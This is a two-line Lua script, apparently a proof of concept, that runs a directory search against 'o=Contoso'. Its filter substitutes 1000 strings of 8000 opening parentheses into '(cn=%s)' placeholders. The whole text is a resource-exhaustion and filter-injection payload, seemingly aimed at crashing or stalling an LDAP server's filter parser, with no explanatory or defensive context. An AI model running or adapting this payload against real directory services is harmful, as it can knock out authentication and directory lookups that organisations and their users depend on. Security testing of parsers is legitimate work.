local t, f = {}, {} for i = 1, 1000 do t[i] = ("("):rep(8000) f[i] = "(cn=%s)" end
target.directory:search{ base = "o=Contoso", filter = "(|" .. table.concat(f) .. ")", args = t }
